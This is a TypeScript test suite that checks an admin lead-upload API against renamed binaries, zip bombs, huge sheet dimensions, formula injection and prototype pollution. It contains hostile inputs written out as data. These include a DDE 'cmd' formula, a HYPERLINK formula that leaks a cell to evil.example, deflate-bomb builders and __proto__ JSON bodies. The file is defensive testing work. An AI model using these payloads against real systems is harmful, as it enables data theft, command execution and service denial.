import zlib from 'node:zlib';
import * as XLSX from '@e965/xlsx';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { MAX_INFLATE_RATIO, uploadMessages } from '../../../server/services/lead-import/file-check';
import { parseSpreadsheet } from '../../../server/services/lead-import/parse-sheet';
import { MAX_COLUMNS, rowMessages } from '../../../server/services/lead-import/row-rules';
import {
  type Account,
  bearer,
  createFirstAdmin,
  createTestApp,
  type TestApp,
} from '../../helpers/test-server';
import { multipart, phone, readInvalidFile, workbook, zipOf } from '../routes/admin-upload-support';
import { deflateRepeated, SHEET_HEAD, workbookWithSheet, zipArchive } from './spreadsheet-attacks';

// ASVS 5.2 and OWASP's file-upload advice, on POST /api/Admin/upload-leads (DESIGN.md §4).
// tests/server/routes/admin-upload.routes.test.ts covers the everyday refusals (CSV, OLE named
// .xlsx, a stored ZIP whose directory claims 300 MB, 1001 parts, formula text); this file adds
// renamed binaries, real deflate bombs (honest and lying directories), absurd sheet dimensions,
// formula cells and prototype keys, and checks the API keeps answering and memory stays bounded.

let t: TestApp;
let admin: Account;

beforeAll(async () => {
  t = await createTestApp();
  admin = await createFirstAdmin(t.app);
});
afterAll(() => t.close());
afterEach(() => vi.restoreAllMocks());

function upload(filename: string, content: Buffer) {
  const { payload, contentType } = multipart(filename, content);
  return t.app.inject({
    method: 'POST',
    url: '/api/Admin/upload-leads?autoAssign=false',
    payload,
    headers: { ...bearer(admin), 'content-type': contentType },
  });
}

async function leadCount(): Promise<number> {
  const row = await t.app.deps.db
    .selectFrom('leads')
    .select((eb) => eb.fn.countAll<number>().as('n'))
    .executeTakeFirstOrThrow();
  return Number(row.n);
}

/**
 * Uploads while /api/health is asked every 10 ms and the process's memory is sampled: answers
 * the upload, how many health answers came back meanwhile, the slowest of them, and how far the
 * resident memory rose above where it started.
 */
async function uploadUnderWatch(filename: string, content: Buffer) {
  const baseline = process.memoryUsage().rss;
  let peak = baseline;
  let healthy = 0;
  let slowestHealth = 0;
  let done = false;
  const sampler = setInterval(() => {
    peak = Math.max(peak, process.memoryUsage().rss);
  }, 5);
  const health = (async () => {
    while (!done) {
      const asked = performance.now();
      const res = await t.app.inject({ url: '/api/health' });
      if (res.statusCode === 200) healthy++;
      slowestHealth = Math.max(slowestHealth, performance.now() - asked);
      await new Promise((r) => setTimeout(r, 10));
    }
  })();
  const started = performance.now();
  const res = await upload(filename, content);
  const ms = performance.now() - started;
  done = true;
  await health;
  clearInterval(sampler);
  return { res, ms, healthy, slowestHealth, riseMb: (peak - baseline) / 1024 / 1024 };
}

const MB = 1024 * 1024;
const row = '<row><c t="inlineStr"><is><t>x</t></is></c></row>';

describe('content must match the extension', () => {
  const binaries: [string, Buffer, string][] = [
    ['a PNG named .xlsx', Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), 'leads.xlsx'],
    ['a PDF named .xls', Buffer.from('%PDF-1.7\n%âãÏÓ\n1 0 obj\n'), 'leads.xls'],
    [
      'a Windows program named .xlsx',
      Buffer.concat([Buffer.from('MZ'), Buffer.alloc(510, 0x90)]),
      'leads.xlsx',
    ],
    ['a gzip named .xls', zlib.gzipSync(Buffer.from('Name,Phone\n')), 'leads.xls'],
    ['an ELF named .xls', Buffer.concat([Buffer.from('7f454c46', 'hex'), Buffer.alloc(60)]), 'leads.xls'],
    [
      'an OpenDocument spreadsheet named .xlsx',
      zipOf({ mimetype: 'application/vnd.oasis.opendocument.spreadsheet', 'content.xml': '<x/>' }),
      'leads.xlsx',
    ],
    ['a real .xlsx named .xls', workbook([['Name', 'Phone']]), 'leads.xls'],
    ['a real .xls named .xlsx', workbook([['Name', 'Phone']], 'biff8'), 'leads.xlsx'],
  ];

  it.each(binaries)('%s → 415, nothing imported, no parse started', async (_label, content, filename) => {
    const start = vi.spyOn(t.app.deps.importWorkers, 'start');
    const before = await leadCount();
    const res = await upload(filename, content);
    expect(res.statusCode).toBe(415);
    expect(res.headers['content-type']).toContain('application/problem+json');
    expect(start).not.toHaveBeenCalled();
    expect(await leadCount()).toBe(before);
  });
});

describe('zip bombs are refused before inflating past the declared sizes, with the API answering and memory bounded', () => {
  // About 245 MB of sheet XML deflated to well under 1 MB: past the 200 MB unpacked limit.
  let big: { stored: Buffer; size: number };
  // About 98 MB: under the unpacked limit, but packed far tighter than any real sheet.
  let tight: { stored: Buffer; size: number };
  beforeAll(async () => {
    big = await deflateRepeated(`${SHEET_HEAD}><sheetData>`, row, 5_000_000, '</sheetData></worksheet>');
    tight = await deflateRepeated(`${SHEET_HEAD}><sheetData>`, row, 2_000_000, '</sheetData></worksheet>');
  }, 30_000);

  // [label, file, status, message, refused before a parse worker starts?]
  const bombs = (): [string, () => Buffer, number, string, boolean][] => [
    [
      'a sheet declaring its real 245 MB',
      () => workbookWithSheet({ name: '', stored: big.stored, method: 8, declaredSize: big.size }),
      413,
      uploadMessages.unpacksTooLarge(200),
      true,
    ],
    [
      `a sheet of 98 MB packed more than ${MAX_INFLATE_RATIO}:1`,
      () => workbookWithSheet({ name: '', stored: tight.stored, method: 8, declaredSize: tight.size }),
      413,
      uploadMessages.packedTooTightly(MAX_INFLATE_RATIO),
      true,
    ],
    [
      'a sheet whose directory claims 1 KB for the 245 MB it holds',
      () => workbookWithSheet({ name: '', stored: big.stored, method: 8, declaredSize: 1024 }),
      413,
      uploadMessages.unpacksPastDeclared,
      // Only unpacking shows the lie: the worker stops one byte past the declared size.
      false,
    ],
    [
      'a directory declaring 4 GB for each of three parts',
      () =>
        zipArchive(
          ['[Content_Types].xml', 'xl/workbook.xml', 'xl/worksheets/sheet1.xml'].map((name) => ({
            name,
            stored: zlib.deflateRawSync(Buffer.from('<x/>')),
            method: 8 as const,
            declaredSize: 0xfffffffe,
          })),
        ),
      413,
      uploadMessages.unpacksTooLarge(200),
      true,
    ],
  ];

  it.each(bombs())('%s', async (_label, build, status, message, beforeParse) => {
    const file = build();
    expect(file.length).toBeLessThan(2 * MB);
    const start = vi.spyOn(t.app.deps.importWorkers, 'start');
    const before = await leadCount();
    const watched = await uploadUnderWatch('bomb.xlsx', file);
    expect(watched.res.statusCode).toBe(status);
    expect(watched.res.json().message).toBe(message);
    // Refused from the directory before any parser ran, or by the worker as it unpacks.
    expect(start).toHaveBeenCalledTimes(beforeParse ? 0 : 1);
    expect(watched.riseMb).toBeLessThan(64);
    expect(await leadCount()).toBe(before);
  });
});

describe('absurd sheet dimensions', () => {
  const header =
    '<row r="1"><c r="A1" t="inlineStr"><is><t>Name</t></is></c><c r="B1" t="inlineStr"><is><t>Phone</t></is></c></row>';
  const lead = (r: number, extra = '') =>
    `<row r="${r}"><c r="A${r}" t="inlineStr"><is><t>Lead ${r}</t></is></c><c r="B${r}"><v>${phone()}</v></c>${extra}</row>`;
  const sheetOf = (rows: string[], dimension = '') => {
    const xml = `${SHEET_HEAD}>${dimension}<sheetData>${rows.join('')}</sheetData></worksheet>`;
    return workbookWithSheet({
      name: '',
      stored: zlib.deflateRawSync(Buffer.from(xml)),
      method: 8,
      declaredSize: Buffer.byteLength(xml),
    });
  };

  it('a sheet declaring A1:XFD1048576 imports the one row it holds, in little memory', async () => {
    // The declared size is only a hint: rows are counted as they are read, so neither a refusal
    // for a million rows nor a 16,384-column grid comes of it.
    const before = await leadCount();
    const watched = await uploadUnderWatch(
      'dims.xlsx',
      sheetOf([header, lead(2)], '<dimension ref="A1:XFD1048576"/>'),
    );
    expect(watched.res.statusCode).toBe(200);
    expect(watched.res.json()).toMatchObject({ totalRows: 1, inserted: 1 });
    expect(await leadCount()).toBe(before + 1);
    expect(watched.riseMb).toBeLessThan(100);
  });

  it('a cell in column XFD on every row is refused, and the API answers health checks all along', async () => {
    // One far-right cell made every row 16,384 columns wide in the rejected-rows file: tens of
    // seconds and an out-of-memory worker before the column limit existed.
    const rows = [header];
    for (let r = 2; r <= 30_000; r++) rows.push(lead(r, `<c r="XFD${r}"><v>1</v></c>`));
    const before = await leadCount();
    const plain = await uploadUnderWatch('plain.xlsx', sheetOf([header, lead(2)]));
    expect(plain.res.statusCode).toBe(200);
    const wide = await uploadUnderWatch('wide.xlsx', sheetOf(rows));
    expect(wide.res.statusCode).toBe(413);
    expect(wide.res.json().message).toBe(rowMessages.tooManyColumns(MAX_COLUMNS));
    expect(await leadCount()).toBe(before + 1);
    // The parse ran in a worker: health answers kept coming, each far quicker than the upload.
    expect(wide.healthy).toBeGreaterThanOrEqual(3);
    expect(wide.slowestHealth).toBeLessThan(wide.ms / 2);
    expect(wide.riseMb).toBeLessThan(400);
  });

  it('a sheet exactly MAX_COLUMNS wide still imports', () => {
    const rows: (string | number)[][] = [['Name', 'Phone']];
    rows.push(['Wide lead', phone()]);
    const book = XLSX.utils.aoa_to_sheet(rows);
    XLSX.utils.sheet_add_aoa(book, [['edge']], { origin: { r: 1, c: MAX_COLUMNS - 1 } });
    const data = XLSX.utils.sheet_to_json<unknown[]>(book, { header: 1 });
    expect((data[1] as unknown[]).length).toBe(MAX_COLUMNS);
    const bytes = XLSX.write(
      { SheetNames: ['s'], Sheets: { s: book } },
      { type: 'buffer', bookType: 'xlsx' },
    );
    const { result } = parseSpreadsheet(bytes, { maxRows: 10, zone: { offsetMinutes: 0 } });
    expect(result).toMatchObject({ ok: true, totalRows: 1 });
  });
});

describe('formula cells come back neutralised in invalidFile', () => {
  it('real formulas and formula-looking text, in data and in the header, never come back as formulas', async () => {
    const f = (formula: string, v: string): XLSX.CellObject => ({ t: 's', v, f: formula });
    const payloads = [
      "=cmd|' /C calc'!A0",
      '+SUM(1,1)',
      '-2+3',
      '@SUM(1,1)',
      '\t=1+1',
      '\r=1+1',
      '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    ];
    const rows: (string | number | XLSX.CellObject)[][] = [
      ['Name', 'Phone', f('"=1+1"', '=1+1'), 'Notes'],
      ...payloads.map((p) => [p, 'not a phone', f('A1', p), p]),
      [f('CONCATENATE("=","2+2")', '=2+2'), 'x', '', ''],
    ];
    const res = await upload('formulas.xlsx', workbook(rows));
    expect(res.statusCode).toBe(200);
    expect(res.json().skipped).toBe(payloads.length + 1);
    const { rows: back, formulas } = readInvalidFile(res.json().invalidFile);
    expect(formulas).toBe(0);
    for (const line of back) {
      for (const cell of line) {
        // Text a spreadsheet program would run starts with an apostrophe instead.
        expect(cell, JSON.stringify(line)).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    // Column A is the row's number in the upload (issue 19); the sheet's cells follow.
    expect(back[0]![3]).toBe("'=1+1");
    expect(back[1]![1]).toBe(`'${payloads[0]}`);
  });
});

describe('prototype keys never pollute objects', () => {
  const clean = () => {
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.getOwnPropertyNames(Object.prototype)).not.toContain('polluted');
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
  };

  it('JSON bodies carrying __proto__ or constructor.prototype get 400 on every kind of call', async () => {
    const bodies = [
      '{"email":"a@b.co","password":"x","__proto__":{"polluted":true}}',
      '{"email":"a@b.co","password":"x","constructor":{"prototype":{"polluted":true}}}',
      '{"leadIds":[1],"employeeId":1,"nested":{"__proto__":{"isAdmin":true}}}',
      '[{"__proto__":{"polluted":true}}]',
    ];
    const calls: [string, string, Record<string, string>][] = [
      ['POST', '/api/Registration/login', {}],
      ['POST', '/api/Registration', bearer(admin)],
      ['POST', '/api/Admin/leads', bearer(admin)],
      ['POST', '/api/Admin/assign', bearer(admin)],
      ['POST', '/api/LeadStatus', bearer(admin)],
      ['PUT', '/api/LeadStatus/leads/1/status', bearer(admin)],
      ['POST', '/api/Registration/forgotpassword', {}],
    ];
    for (const [method, url, auth] of calls) {
      for (const payload of bodies) {
        const res = await t.app.inject({
          method: method as 'POST',
          url,
          payload,
          headers: { ...auth, 'content-type': 'application/json' },
        });
        expect(res.statusCode, `${method} ${url} ${payload}`).toBe(400);
        expect(res.headers['content-type']).toContain('application/problem+json');
      }
    }
    clean();
  });

  it('query strings and multipart fields named __proto__ are harmless', async () => {
    const query = await t.app.inject({
      url: '/api/Admin/leads?__proto__[polluted]=1&constructor[prototype][polluted]=1&search=x',
      headers: bearer(admin),
    });
    expect(query.statusCode).toBeLessThan(500);
    const boundary = 'proto-boundary';
    const multi = await t.app.inject({
      method: 'POST',
      url: '/api/Admin/upload-leads',
      payload:
        `--${boundary}\r\nContent-Disposition: form-data; name="__proto__"\r\n\r\n{"polluted":true}\r\n` +
        `--${boundary}\r\nContent-Disposition: form-data; name="constructor"\r\n\r\nx\r\n--${boundary}--\r\n`,
      headers: { ...bearer(admin), 'content-type': `multipart/form-data; boundary=${boundary}` },
    });
    // @fastify/multipart refuses a field named __proto__ outright.
    expect(multi.statusCode).toBe(400);
    expect(multi.headers['content-type']).toContain('application/problem+json');
    clean();
  });

  it('spreadsheet headers named __proto__, constructor or prototype are columns like any other', async () => {
    const p = phone();
    const rows = [
      ['__proto__', 'Name', 'constructor', 'Phone', 'prototype', 'hasOwnProperty'],
      ['{"polluted":true}', 'Proto Lead', 'x', p, 'y', 'z'],
    ];
    // In this thread (the helpers the worker runs) and through the API.
    const { result } = parseSpreadsheet(workbook(rows), { maxRows: 10, zone: { offsetMinutes: 0 } });
    expect(result).toMatchObject({ ok: true, totalRows: 1 });
    const res = await upload('proto.xlsx', workbook(rows));
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({ inserted: 1 });
    const lead = await t.app.inject({ url: `/api/Admin/leads?search=${p}`, headers: bearer(admin) });
    expect(lead.json()[0]).toMatchObject({ name: 'Proto Lead' });
    clean();
  });
});
